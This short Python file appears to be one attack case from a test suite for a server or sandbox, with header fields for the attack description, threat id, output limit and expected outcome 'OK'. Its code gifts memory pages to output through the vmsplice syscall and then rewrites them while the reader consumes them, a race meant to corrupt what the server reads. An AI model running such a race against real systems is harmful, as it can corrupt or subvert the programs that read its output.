# attack = "lends its output pages of its memory, and changes them while the server reads"
# threats = [50]
# limits = { output_bytes = "8MiB" }
# outcome = "OK"
import ctypes
import mmap
import struct

from attack import syscall

VMSPLICE, GIFT = 278, 8
pages = mmap.mmap(-1, 1 << 16)
vector = struct.pack("2Q", ctypes.addressof(ctypes.c_char.from_buffer(pages)), len(pages))
for number in range(64):
    pages[:] = bytes([number]) * len(pages)
    syscall(VMSPLICE, 1, vector, 1, GIFT)
    pages[:] = b"\xff" * len(pages)
